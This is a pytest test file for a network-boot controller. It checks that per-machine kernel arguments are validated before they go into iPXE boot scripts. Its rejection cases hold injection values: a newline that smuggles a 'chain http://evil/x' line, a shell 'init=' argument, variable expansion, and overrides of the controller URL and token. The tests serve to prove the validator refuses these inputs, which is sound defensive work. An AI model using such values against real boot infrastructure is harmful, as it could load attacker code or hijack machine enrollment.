"""A machine's own kernel arguments (`sledge machine set --kernel-args`): stored, shown, served in
its boot script after the controller's, and refused when they could break the script or the
enrollment."""

from __future__ import annotations

from pathlib import Path

import pytest

from controller.boot.cmdline import problem, reserved_key
from controller.config import Config
from tests.unit.test_controller_kit import AioClient, start

MAC1, MAC2 = "52:54:00:00:00:01", "52:54:00:00:00:02"


def kernel_line(script: str) -> str:
    return next(line for line in script.splitlines() if line.startswith("kernel "))


async def test_the_default_puts_serial_last_so_both_consoles_get_everything(
    aiohttp_client: AioClient, tmp_path: Path
) -> None:
    assert Config(tmp_path).kernel_args == "console=tty0 console=ttyS0,115200"
    h = await start(aiohttp_client, tmp_path)
    line = kernel_line(await (await h.client.get("/boot/ipxe", params={"mac": MAC1})).text())
    assert line.endswith(f"sledge.mac={MAC1} {h.config.kernel_args}"), line


async def test_a_machines_own_args_follow_the_controllers_in_its_boot_only(
    aiohttp_client: AioClient, tmp_path: Path
) -> None:
    h = await start(aiohttp_client, tmp_path)
    expected = await h.client.post(f"/v1/machines/{MAC1}/expect", headers=h.op)
    assert expected.status == 201
    r = await h.client.patch(
        f"/v1/machines/{MAC1}", json={"kernel_args": "sledge.shell=1 quiet"}, headers=h.op
    )
    assert r.status == 200, await r.text()
    assert (await r.json())["kernel_args"] == "sledge.shell=1 quiet"
    shown = await (await h.client.get(f"/v1/machines/{MAC1}", headers=h.op)).json()
    assert shown["kernel_args"] == "sledge.shell=1 quiet" and shown["desired_image"] == ""  # untouched
    line = kernel_line(await (await h.client.get("/boot/ipxe", params={"mac": MAC1})).text())
    assert line.endswith(f"{h.config.kernel_args} sledge.shell=1 quiet"), line
    other = kernel_line(await (await h.client.get("/boot/ipxe", params={"mac": MAC2})).text())
    assert "sledge.shell" not in other and other.endswith(h.config.kernel_args)
    r = await h.client.patch(f"/v1/machines/{MAC1}", json={"kernel_args": ""}, headers=h.op)
    assert (await r.json())["kernel_args"] == ""
    line = kernel_line(await (await h.client.get("/boot/ipxe", params={"mac": MAC1})).text())
    assert line.endswith(h.config.kernel_args), line


@pytest.mark.parametrize(
    ("args", "complaint"),
    [
        ("sledge.shell=1\nchain http://evil/x", "kernel arguments: words of"),  # a second iPXE line
        ("a=${net0/ip}", "kernel arguments: words of"),  # iPXE would expand it
        ("a  b", "kernel arguments: words of"),
        ('init="/bin/sh -c x"', "kernel arguments: words of"),
        (" lead", "kernel arguments: words of"),
        ("x" * 513, "at most 512"),
        (
            "sledge.shell=1 sledge.token=mine",
            "arguments the controller does not set itself, got 'sledge.token=mine'",
        ),
        ("sledge.TOKEN=mine", "got 'sledge.TOKEN=mine'"),
        ("sledge.controller=http://evil", "got 'sledge.controller=http://evil'"),
        ("initrd=other.img", "got 'initrd=other.img'"),
    ],
)
async def test_args_that_could_break_the_script_or_the_enrollment_are_refused(
    aiohttp_client: AioClient, tmp_path: Path, args: str, complaint: str
) -> None:
    h = await start(aiohttp_client, tmp_path)
    machine_id = await h.enroll(MAC1)
    r = await h.client.patch(f"/v1/machines/{machine_id}", json={"kernel_args": args}, headers=h.op)
    text = await r.text()
    assert r.status == 400 and "kernel_args" in text and complaint in text, text
    shown = await (await h.client.get(f"/v1/machines/{machine_id}", headers=h.op)).json()
    assert shown["kernel_args"] == ""  # nothing half-applied


def test_reserved_keys_are_found_by_their_key_only() -> None:
    assert reserved_key("sledge.shell=1 sledge.mac=x") == "sledge.mac=x"
    assert reserved_key("sledge.token") == "sledge.token"
    assert reserved_key("sledge.tokens=1 xinitrd=1 sledge.shell=1") is None
    assert reserved_key("") is None


@pytest.mark.parametrize(
    ("value", "says"),
    [
        ("console=ttyS0 ${net0/mac}", "expected kernel arguments"),  # iPXE would expand it
        ("quiet\nchain http://elsewhere/x.ipxe", "expected kernel arguments"),  # a second script line
        ("quiet  loglevel=3", "expected kernel arguments"),
        ("sledge.TOKEN=abc", "the controller does not set itself, got 'sledge.TOKEN=abc'"),
        ("x" * 513, "at most 512 characters, got 513"),
    ],
)
def test_sledge_serve_refuses_controller_wide_args_by_the_same_rule(
    value: str, says: str, capsys: pytest.CaptureFixture[str]
) -> None:
    from controller.cli import build_parser
    from controller.cli.serve import kernel_args

    with pytest.raises(SystemExit) as exit_:
        build_parser().parse_args(["serve", "--kernel-args", value])
    assert exit_.value.code == 2
    assert "--kernel-args" in capsys.readouterr().err and says in (problem(value) or "")
    assert kernel_args(Config.kernel_args) == Config.kernel_args  # the default passes
